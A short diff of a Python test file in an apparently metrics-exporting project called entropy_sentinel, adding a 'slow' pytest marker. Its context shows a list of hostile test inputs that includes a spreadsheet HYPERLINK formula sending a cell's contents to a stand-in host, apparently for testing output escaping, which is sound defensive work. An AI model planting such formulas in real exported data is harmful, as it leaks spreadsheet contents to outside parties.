@@ -15,6 +15,8 @@ from entropy_sentinel.commands.main import main
 from entropy_sentinel.frames.errors import ConfigError
 from entropy_sentinel.monitor.showing.openmetrics import openmetrics
 
+pytestmark = pytest.mark.slow
+
 FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"see")'
 NASTY = [
     FORMULA,
